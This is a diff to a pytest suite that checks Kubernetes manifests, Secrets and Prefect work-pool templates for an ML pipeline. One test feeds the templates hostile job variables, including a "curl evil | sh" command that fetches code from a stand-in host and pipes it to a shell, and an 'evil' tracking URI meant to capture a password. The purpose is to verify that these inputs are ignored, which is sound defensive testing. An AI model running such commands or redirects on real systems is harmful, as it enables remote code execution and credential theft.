@@ -8,6 +8,7 @@ import re
 import shutil
 import subprocess
 from pathlib import Path
+from typing import Any
 from urllib.parse import urlparse
 
 import pytest
@@ -111,16 +112,27 @@ def test_containers_have_image_and_resources(label_spec) -> None:
 
 
 def test_every_secret_reference_is_documented() -> None:
-    refs = h.secret_refs(h.k8s_docs()) | h.secret_refs(h.pool_templates())
-    assert refs
+    """Every Secret and key a manifest or a work-pool template reads (secretKeyRef: a value;
+    a secret volume's items: files) is in the README's table and kubectl commands, and
+    secret.example.yaml shows exactly those."""
+    trees = [h.k8s_docs(), h.pool_templates()]
+    values = set().union(*(h.secret_refs(t) for t in trees))
+    files = set().union(*(h.secret_volume_refs(t) for t in trees))
+    assert values and files
+    assert {n for n, _ in values}.isdisjoint({n for n, _ in files}), "one kind per Secret"
     readme = h.README.read_text(encoding="utf-8")
-    for name, key in refs:
-        row = next((ln for ln in readme.splitlines() if ln.strip().startswith(f"| `{name}` |")), "")
-        assert f"`{key}`" in row, f"Secret {name} key {key} is not in the README's Secrets table"
-        assert f"create secret generic {name}" in readme, f"no kubectl command creates {name}"
-        assert f"--from-literal={key}=" in readme, f"{name}: key {key} missing from the command"
+    for refs, option in ((values, "--from-literal"), (files, "--from-file")):
+        for name, key in refs:
+            row = next(
+                (ln for ln in readme.splitlines() if ln.strip().startswith(f"| `{name}` |")), ""
+            )
+            assert f"`{key}`" in row, f"Secret {name} key {key} is not in the README's table"
+            assert f"create secret generic {name}" in readme, f"no kubectl command creates {name}"
+            assert f"{option}={key}=" in readme, f"{name}: key {key} missing from the command"
     example = h.k8s_docs_of(h.K8S / "secret.example.yaml")
-    assert {(d["metadata"]["name"], k) for d in example for k in d["stringData"]} == refs
+    assert {(d["metadata"]["name"], k) for d in example for k in d["stringData"]} == values | files
+    for volume in h.secret_volumes(trees):
+        assert volume.get("items"), "name the keys a pod gets (items), not the whole Secret"
 
 
 def test_no_secret_values_in_manifests() -> None:
@@ -136,9 +148,19 @@ def test_no_secret_values_in_manifests() -> None:
         check_env_has_no_inline_secrets(template, pool)
 
 
+# Variables whose value names a Secret (not a secret): the Prefect workers' reference to the
+# auth string, which they write into the Jobs instead of its value.
+NAMES_OF_SECRETS = {
+    "PREFECT_INTEGRATIONS_KUBERNETES_WORKER_API_AUTH_STRING_SECRET_NAME",
+    "PREFECT_INTEGRATIONS_KUBERNETES_WORKER_API_AUTH_STRING_SECRET_KEY",
+}
+
+
 def check_env_has_no_inline_secrets(tree, where: str) -> None:
     for path, node in h.walk(tree):
         if isinstance(node, dict) and isinstance(node.get("name"), str) and "value" in node:
+            if node["name"] in NAMES_OF_SECRETS:
+                continue
             assert not h.SECRETISH.search(node["name"]), (
                 f"{where}: {node['name']} has an inline value"
             )
@@ -159,13 +181,10 @@ def test_config_maps_and_service_accounts_referenced_exist() -> None:
             for key in ("configMapRef", "configMapKeyRef", "configMap"):
                 if isinstance(node.get(key), dict):
                     assert node[key]["name"] in config_maps, node[key]["name"]
-            if (
-                isinstance(node.get("serviceAccountName"), str)
-                and "{{" not in node["serviceAccountName"]
-            ):
-                assert node["serviceAccountName"] in accounts
+            if isinstance(node.get("serviceAccountName"), str):
+                assert node["serviceAccountName"] in accounts, node["serviceAccountName"]
     for template in h.pool_templates().values():
-        assert template["variables"]["properties"]["service_account_name"]["default"] in accounts
+        assert h.job_pod_spec(template)["serviceAccountName"] in accounts
 
 
 def test_settings_point_at_services_of_the_cluster() -> None:
@@ -210,11 +229,55 @@ def test_prefect_server_runs_on_postgres() -> None:
 
 
 def test_mlflow_proxies_artifacts_for_its_clients() -> None:
-    (c,) = by_kind("Deployment")["mlflow"]["spec"]["template"]["spec"]["containers"]
+    dep = by_kind("Deployment")["mlflow"]
+    spec = dep["spec"]["template"]["spec"]
+    (c,) = spec["containers"]
     env = {e["name"]: e.get("value", "") for e in c["env"]}
     h.mlflow_server_checks(c["args"], env, settings()["MLFLOW_TRACKING_URI"])
+    assert h.secret_env(c)["MLFLOW_AUTH_ADMIN_PASSWORD"] == ("genesis-mlflow", "admin-password")
+    assert h.secret_env(c)["MLFLOW_FLASK_SERVER_SECRET_KEY"] == (
+        "genesis-mlflow",
+        "flask-secret-key",
+    )
+    # the backend URI is assembled from the Secret, defined before it ($(VAR) expansion)
+    assert "$(POSTGRES_MLFLOW_PASSWORD)" in env["MLFLOW_BACKEND_STORE_URI"]
+    names = [e["name"] for e in c["env"]]
+    assert names.index("POSTGRES_MLFLOW_PASSWORD") < names.index("MLFLOW_BACKEND_STORE_URI")
+    assert h.secret_env(c)["POSTGRES_MLFLOW_PASSWORD"] == ("genesis-postgres", "mlflow-password")
     refs = {n for n, _ in h.secret_refs(c)}
-    assert refs == {"genesis-postgres", "genesis-mlflow-s3"}
+    assert refs == {"genesis-postgres", "genesis-mlflow-s3", "genesis-mlflow"}
+    # the auth configuration (ConfigMap) and the account store (a claim: accounts persist)
+    mounts = {m["mountPath"]: m["name"] for m in c["volumeMounts"]}
+    volumes = {v["name"]: v for v in spec["volumes"]}
+    config = volumes[mounts[env["MLFLOW_AUTH_CONFIG_PATH"].rsplit("/", 1)[0]]]["configMap"]
+    assert "basic_auth.ini" in by_kind("ConfigMap")[config["name"]]["data"]
+    store = volumes[mounts["/var/lib/mlflow-auth"]]["persistentVolumeClaim"]["claimName"]
+    assert store in by_kind("PersistentVolumeClaim")
+    ini = by_kind("ConfigMap")[config["name"]]["data"]["basic_auth.ini"]
+    assert "sqlite:////var/lib/mlflow-auth/" in ini
+    assert dep["spec"]["strategy"]["type"] == "Recreate", "one pod at a time on the claim"
+
+
+def test_mlflow_setup_job_makes_the_accounts_as_admin() -> None:
+    job = by_kind("Job")["mlflow-setup"]
+    spec = job["spec"]["template"]["spec"]
+    (c,) = spec["containers"]
+    assert c["command"] == ["python", "/setup/setup.py"]
+    assert c["image"].split(":")[0] == "genesis-cpu"
+    env = {e["name"]: e.get("value") for e in c["env"]}
+    assert env["MLFLOW_TRACKING_URI"] == settings()["MLFLOW_TRACKING_URI"]
+    assert env["MLFLOW_TRACKING_USERNAME"] == "admin"
+    secrets = h.secret_env(c)
+    (server,) = by_kind("Deployment")["mlflow"]["spec"]["template"]["spec"]["containers"]
+    assert secrets["MLFLOW_TRACKING_PASSWORD"] == h.secret_env(server)["MLFLOW_AUTH_ADMIN_PASSWORD"]
+    assert secrets["MLFLOW_VIEWER_PASSWORD"] == ("genesis-mlflow", "viewer-password")
+    # the password it gives `pipeline` is the one the flow runs log in with
+    for pool in POOLS:
+        (run,) = rendered_job(pool)["spec"]["template"]["spec"]["containers"]
+        assert h.secret_env(run)["MLFLOW_TRACKING_PASSWORD"] == secrets["MLFLOW_PIPELINE_PASSWORD"]
+    (mount,) = c["volumeMounts"]
+    (volume,) = spec["volumes"]
+    assert mount["mountPath"] == "/setup" and volume["configMap"]["name"] == "mlflow-setup"
 
 
 # --- Prefect workers and work pools ------------------------------------------------------
@@ -275,8 +338,8 @@ def test_work_pool_template_passes_prefect_validation(pool) -> None:
     template = h.pool_template(pool)
     WorkPoolCreate(name=pool, type="kubernetes", base_job_template=template)
     broken = copy.deepcopy(template)
-    del broken["variables"]["properties"]["image"]
-    with pytest.raises(ValueError, match="image"):
+    del broken["variables"]["properties"]["namespace"]
+    with pytest.raises(ValueError, match="namespace"):
         WorkPoolCreate(name=pool, type="kubernetes", base_job_template=broken)
     default = prefect_default_template()
     assert set(template["job_configuration"]) == set(default["job_configuration"])
@@ -284,18 +347,109 @@ def test_work_pool_template_passes_prefect_validation(pool) -> None:
         set(template["variables"]["properties"]),
         set(default["variables"]["properties"]),
     )
-    assert prefects <= ours, "every variable the Kubernetes worker fills stays"
-    assert ours - prefects == ({"gpus"} if pool == "genesis-gpu" else set())
+    assert ours == (prefects - FIXED_BY_THE_TEMPLATE) | (
+        {"gpus"} if pool == "genesis-gpu" else set()
+    ), "every other variable the Kubernetes worker fills stays"
 
 
-def rendered_job(pool: str, **values) -> dict:
-    """The Job a worker would submit with the template's defaults (Prefect's own templating)."""
+# What a caller who starts a flow run (job variables) must not choose: what the Job runs
+# (image, command), as whom (service account), with which settings (env: e.g. a tracking
+# URI that would receive the pipeline's password), network access (labels: the
+# NetworkPolicies select pods by label) or on which cluster (cluster_config).
+FIXED_BY_THE_TEMPLATE = {
+    "image",
+    "command",
+    "service_account_name",
+    "env",
+    "labels",
+    "cluster_config",
+}
+
+
+def worker_configuration(template: dict, job_variables: dict):
+    """The job configuration a worker builds from a pool's template and job variables, by
+    Prefect's own code (its Kubernetes worker, prefect-kubernetes, lives in the worker image:
+    this stands in for its configuration class, whose `env` is a dict or a list)."""
+    import asyncio
+    import types
+
+    from prefect.workers.base import BaseJobConfiguration
+    from pydantic import Field, field_validator
+
+    class Config(BaseJobConfiguration):
+        env: dict[str, str | None] | list[dict[str, Any]] = Field(default_factory=dict)
+        namespace: str | None = None
+        job_manifest: dict[str, Any] = Field(default_factory=dict)
+        cluster_config: Any = None
+        job_watch_timeout_seconds: int | None = None
+        pod_watch_timeout_seconds: int | None = None
+        stream_output: bool | None = None
+
+        @field_validator("env", mode="before")
+        @classmethod
+        def _coerce_env(cls, v):
+            return (
+                v
+                if isinstance(v, list)
+                else {k: None if x is None else str(x) for k, x in v.items()}
+            )
+
+    # no block or variable placeholders: the client is never called
+    build = Config.from_template_and_values(template, job_variables, client=types.SimpleNamespace())
+    return asyncio.run(build)
+
+
+@pytest.mark.parametrize("pool", POOLS)
+def test_work_pool_callers_cannot_choose_image_command_or_account(pool) -> None:
+    template = h.pool_template(pool)
+    assert not FIXED_BY_THE_TEMPLATE & set(template["variables"]["properties"])
+    from prefect.utilities.templating import find_placeholders
+
+    used = {p.name for p in find_placeholders(json.dumps(template["job_configuration"]))}
+    assert not used & FIXED_BY_THE_TEMPLATE, used & FIXED_BY_THE_TEMPLATE
+    # job variables naming them change nothing in the Job
+    hostile = {
+        "image": "attacker/image:1",
+        "command": "sh -c 'curl evil | sh'",
+        "service_account_name": "prefect-worker",
+        "env": {"MLFLOW_TRACKING_URI": "http://evil:5000"},
+        "labels": {"app.kubernetes.io/name": "prefect-server"},
+        "cluster_config": {"config": {}, "context_name": "evil"},
+    }
+    assert rendered_job(pool, **hostile) == rendered_job(pool)
+    config = rendered_configuration(pool, **hostile)
+    assert config["command"] == "prefect flow-run execute"
+    assert config["env"] == [] and config["labels"] == {} and config["cluster_config"] is None
+    # A worker builds the configuration with Prefect's from_template_and_values, which merges
+    # a caller's `env` into a dict `env` whatever the variables say; a list (the Kubernetes
+    # worker's other form) is left alone.
+    built = worker_configuration(template, hostile | {"env.EXTRA": "1"})
+    assert built.env == [] and built.labels == {} and built.command == config["command"]
+    assert built.job_manifest == rendered_job(pool)
+    as_dict = copy.deepcopy(template)
+    as_dict["job_configuration"]["env"] = {}
+    assert worker_configuration(as_dict, hostile).env == hostile["env"], "the check has teeth"
+    pod = rendered_job(pool)["spec"]["template"]["spec"]
+    (c,) = pod["containers"]
+    assert c["args"] == config["command"].split()
+    assert pod["serviceAccountName"] == "genesis-flow-run"
+    assert by_kind("ServiceAccount")["genesis-flow-run"]["automountServiceAccountToken"] is False
+
+
+def rendered_configuration(pool: str, **values) -> dict:
+    """The job configuration a worker builds with the template's defaults (Prefect's own
+    templating), ``values`` standing for job variables."""
     from prefect.utilities.templating import apply_values
 
     template = h.pool_template(pool)
     props = template["variables"]["properties"]
     defaults = {k: v["default"] for k, v in props.items() if "default" in v}
-    return apply_values(template["job_configuration"], defaults | values)["job_manifest"]
+    return apply_values(copy.deepcopy(template["job_configuration"]), defaults | values)
+
+
+def rendered_job(pool: str, **values) -> dict:
+    """The Job a worker would submit with the template's defaults (Prefect's own templating)."""
+    return rendered_configuration(pool, **values)["job_manifest"]
 
 
 @pytest.mark.parametrize("pool", POOLS)
@@ -309,7 +463,13 @@ def test_work_pool_jobs_get_image_settings_and_credentials(pool) -> None:
     flavour = "cuda" if pool == "genesis-gpu" else "cpu"
     assert c["image"].split(":")[0].endswith(f"genesis-{flavour}"), c["image"]
     assert {"configMapRef": {"name": "genesis-settings"}} in c["envFrom"]
-    assert {n for n, _ in h.secret_refs(c)} == {"genesis-s3"}
+    assert h.secret_env(c) == {
+        "AWS_ACCESS_KEY_ID": ("genesis-s3", "access-key-id"),
+        "AWS_SECRET_ACCESS_KEY": ("genesis-s3", "secret-access-key"),
+        "PREFECT_API_AUTH_STRING": ("genesis-prefect", "auth-string"),
+        "MLFLOW_TRACKING_PASSWORD": ("genesis-mlflow", "pipeline-password"),
+        "GENESIS_SITE_SECRET": ("genesis-site", "site-secret"),
+    }
     assert isinstance(c["env"], list), "a fixed env list; Prefect prepends its own variables"
     assert pod["restartPolicy"] == "Never"
     assert "/opt/genesis/genesis_data" in {m["mountPath"] for m in c["volumeMounts"]}
